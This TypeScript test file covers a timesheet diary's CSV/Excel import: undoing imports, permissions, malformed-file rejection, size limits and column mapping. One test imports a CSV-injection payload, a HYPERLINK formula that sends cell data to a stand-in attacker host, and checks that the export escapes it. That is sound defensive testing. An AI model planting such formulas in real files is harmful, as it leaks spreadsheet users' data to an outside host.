import { describe, expect, test } from 'vitest'

import { undoChange } from '#core/undo.contract.ts'
import { testServer } from '#test/firm.ts'
import { base64, csv, header, importer, importing, sample } from '#test/imports.ts'
import { submitDiary } from '../../entries/entryActions.contract.ts'
import { changeDiaryEntry, listDiary } from '../../entries/entries.contract.ts'
import { exportDiary, listDiaryImports, undoDiaryImport } from '../transfer.contract.ts'

const server = testServer()
const { as, grant, inFirm } = server
const { preview, load, importers, entriesOf } = importing(server)

describe('taking it back', () => {
  const times = csv(header, '2026-03-02,09:00,10:00,Bridge,Levels,a', '2026-03-03,09:00,10:00,Bridge,Levels,b')

  test('within a minute by the answer’s token: as if it had never been', async () => {
    const { sam } = await importers()
    const { headers } = await load(sam, times)
    expect((await as(sam, undoChange, { body: { token: String(headers['x-undo']) } })).status).toBe(204)
    expect(await entriesOf(sam)).toEqual([])
    expect((await as(sam, listDiaryImports, { query: {} })).body.results).toEqual([])
    expect((await load(sam, times)).status).toBe(201)
  })

  test('whenever later, as a whole; and the same file may be imported again', async () => {
    const { sam } = await importers()
    const { body: made } = await load(sam, times)

    const undone = await as(sam, undoDiaryImport, { params: { id: String(made.id) }, query: {} })

    expect([undone.status, undone.body]).toMatchObject([
      200,
      { id: made.id, undone: expect.any(String), undone_by: { name: 'Sam Stone' }, can_undo: false },
    ])
    expect(await entriesOf(sam)).toEqual([])
    expect((await as(sam, undoDiaryImport, { params: { id: String(made.id) }, query: {} })).body).toMatchObject({
      code: 'state',
      detail: 'This import was already undone.',
    })
    expect((await load(sam, times)).status).toBe(201)
    expect((await as(sam, undoChange, { body: { token: String(undone.headers['x-undo']) } })).status).toBe(409)
  })

  test('not once something of it was changed, submitted or deleted', async () => {
    const { sam } = await importers()
    for (const touch of ['change', 'submit', 'delete']) {
      const { body: made } = await load(sam, { ...times, duplicates: 'import' })
      const [entry] = await entriesOf(sam)
      const id = entry?.id ?? 0
      if (touch === 'change')
        await as(sam, changeDiaryEntry, { params: { id: String(id) }, body: { details: 'c', version: 1 } })
      else if (touch === 'submit') await as(sam, submitDiary, { body: { ids: [id] } })
      else await inFirm(sam, (db) => db.deleteFrom('diary_entry').where('id', '=', id).execute())

      expect((await as(sam, listDiaryImports, { query: {} })).body.results[0]).toMatchObject({
        id: made.id,
        can_undo: false,
      })
      const { status, body } = await as(sam, undoDiaryImport, { params: { id: String(made.id) }, query: {} })
      expect([touch, status, body['code']]).toEqual([touch, 409, 'stale'])
      await inFirm(sam, (db) => db.deleteFrom('diary_entry').execute())
    }
  })

  test('or all but what has changed, which the refusal names', async () => {
    const { sam } = await importers()
    const { body: made } = await load(sam, times)
    const [first] = await entriesOf(sam)
    await as(sam, changeDiaryEntry, { params: { id: String(first?.id) }, body: { details: 'c', version: 1 } })
    const params = { id: String(made.id) }
    const refused = await as(sam, undoDiaryImport, { params, query: {} })
    expect([refused.status, refused.body]).toEqual([
      409,
      {
        code: 'stale',
        detail:
          'The import cannot be undone. These entries have changed, were submitted or deleted, or are out of your reach: “2 Mar 2026, Bridge”.',
        held: [{ id: first?.id, name: '2 Mar 2026, Bridge' }],
        others: 1,
      },
    ])
    const done = await as(sam, undoDiaryImport, { params, query: { keep: 'true' } })
    expect([done.status, done.body]).toMatchObject([200, { entries: 2, kept: 1, untouched: 0 }])
    expect((await entriesOf(sam)).map(({ id }) => id)).toEqual([first?.id])
  })

  test('the person’s own, or anybody’s by who may change any entry; else it is not there', async () => {
    const [{ sam, maya, ada }, second] = [await importers(), await importers()]
    const { body: made } = await load(sam, times)
    const params = { id: String(made.id) }
    for (const person of [maya, second.ada]) {
      expect((await as(person, listDiaryImports, { query: {} })).body).toEqual({ results: [], count: 0 })
      const { status, text } = await as(person, undoDiaryImport, { params, query: {} })
      expect([status, text]).toEqual([404, ''])
    }
    expect((await as(ada, listDiaryImports, { query: {} })).body).toMatchObject({
      count: 1,
      results: [{ user: { name: 'Sam Stone' } }],
    })
    expect((await as(ada, undoDiaryImport, { params, query: {} })).status).toBe(200)
  })
})

test('the entries of an import are found by its number, and no others', async () => {
  const { sam, maya } = await importers()
  const attempt = async (day: string, notes: string) =>
    (await load(sam, csv(header, `${day},09:00,10:00,Bridge,Levels,${notes}`))).body.id
  const [first] = [await attempt('2026-03-02', 'a'), await attempt('2026-03-03', 'b')]
  const search = `import:${first}`
  const listed = async (person: typeof sam, wanted: string) => {
    const { body } = await as(person, listDiary, { query: { start: '2026-03-01', end: '2026-03-31', search: wanted } })
    return (body as { id: number | null; details: string }[]).filter(({ id }) => id !== null)
  }
  expect((await listed(sam, search)).map(({ details }) => details)).toEqual(['a'])
  expect((await listed(maya, search)).map(({ details }) => details)).toEqual(['a'])
  expect((await listed(sam, `-${search}`)).map(({ details }) => details)).toEqual(['b'])
  expect(await listed((await importers()).sam, search)).toEqual([])
})

describe('files that are none', () => {
  test.each([
    ['200,000 rows', base64(`Date,Hours\n${'2026-03-02,1\n'.repeat(200_000)}`), 'This file has about 200,000 rows.'],
    ['nothing but blanks', base64('Date,Hours\n , \n'), 'This file has no rows'],
    ['a header alone', base64('Date,Hours\n'), 'This file has no rows below its column names.'],
    ['a broken workbook', base64(Uint8Array.of(0x50, 0x4b, 3, 4, 20, 0)), 'This workbook is damaged.'],
    ['an old workbook', sample('old.xls'), 'This is an old Excel workbook (.xls).'],
    ['bytes of nothing', base64('Date,Hours\n2026-03-02,\0'), 'This is not a text file.'],
    ['a quote without an end', base64('Date,Hours\n"2026-03-02,1\n'), 'The quotation mark on line 2 is never closed.'],
  ])('%s is refused with a sentence', async (_, content, sentence) => {
    const { sam } = await importers()
    for (const answer of [await preview(sam, { content }), await load(sam, { content })]) {
      expect(answer.status).toBe(400)
      expect(answer.text).toContain(sentence)
    }
  })

  test('what is larger than an upload may be is refused, and nobody sends one who may not import', async () => {
    const { sam, olga } = await importers()
    const upload = { method: 'POST' as const, url: '/api/diary/import/', payload: ' '.repeat(28_100_000) }
    const by = async (person: typeof sam) => ({
      ...(await server.headersOf(person)),
      'content-type': 'application/json',
    })
    const answers = [
      await server.raw({ ...upload, headers: { 'content-type': 'application/json' } }),
      await server.raw({ ...upload, headers: await by(olga) }),
      await server.raw({ ...upload, headers: await by(sam) }),
    ]
    expect(answers.map(({ status, body }) => [status, body['detail']])).toEqual([
      [401, 'Please sign in.'],
      [403, 'You do not have permission to perform this action.'],
      [413, 'This is too large to send.'],
    ])
  })

  test('formulas are text, in and out again', async () => {
    const { sam } = await importers()
    await grant(sam, ...importer, 'diary.export')
    expect((await load(sam, { content: sample('formulas.csv') })).status).toBe(201)
    expect((await entriesOf(sam))[0]?.details).toBe('=HYPERLINK("http://evil.example/?"&A1,"Levels")')
    const { text } = await as(sam, exportDiary, { query: {} })
    expect(text).toContain(`"'=HYPERLINK(`)
  })
})

test('columns of one name, short rows, long rows and days out of range are each told of where they are', async () => {
  const { sam } = await importers()
  const body = csv('Date,Hours,Notes,Notes', '2026-03-02,1', '2026-03-03,1,a,b,c,d', '1899-12-31,1,x', '3000-01-01,1,x')
  const { columns, mapping, rows } = (await preview(sam, body)).body
  expect(columns.map(({ name }) => name)).toEqual(['Date', 'Hours', 'Notes', 'Notes'])
  expect(
    rows.map(({ row, outcome, entry, errors }) => [
      row,
      outcome,
      entry.details,
      Object.values(errors).flat().length > 0,
    ]),
  ).toEqual([
    [2, 'import', '', false],
    [3, 'import', 'a', false],
    [4, 'refuse', 'x', true],
    [5, 'refuse', 'x', true],
  ])
  const second = { ...body, mapping: { ...mapping, details: 3 } }
  expect((await preview(sam, second)).body.rows[1]?.entry.details).toBe('b')
})

test('text that a spreadsheet takes for a formula behind blanks comes in as it was, and goes out with its teeth drawn', async () => {
  const { sam } = await importers()
  await grant(sam, ...importer, 'diary.export')
  const notes = ['=1+1', '+1', '@x', "'=quoted"]
  const rows = notes.map((text, index) => `2026-03-0${index + 2},1,Bridge,"  ${text}"`)
  expect((await load(sam, csv('Date,Hours,Project,Notes', ...rows))).status).toBe(201)
  expect((await entriesOf(sam)).map(({ details }) => details)).toEqual(notes)
  const { text } = await as(sam, exportDiary, { query: {} })
  for (const note of notes) expect(text).toContain(`,'${note},draft`)
})

test('a whole year of a firm, 20,000 rows, goes in at once', async () => {
  const { maya } = await importers()
  const rows = Array.from({ length: 20_000 }, (_, index) => {
    const day = Temporal.PlainDate.from('2020-01-01').add({ days: Math.floor(index / 10) })
    return `${day.toString()},${index % 2 ? 'Maya Moss' : 'Sam Stone'},0:45,Bridge,Levels,Row ${index}`
  })
  const { status, body } = await load(maya, csv('Date,User,Hours,Project,Task,Notes', ...rows))
  expect([status, body]).toMatchObject([201, { entries: 20_000, hours: '15000.00' }])
})
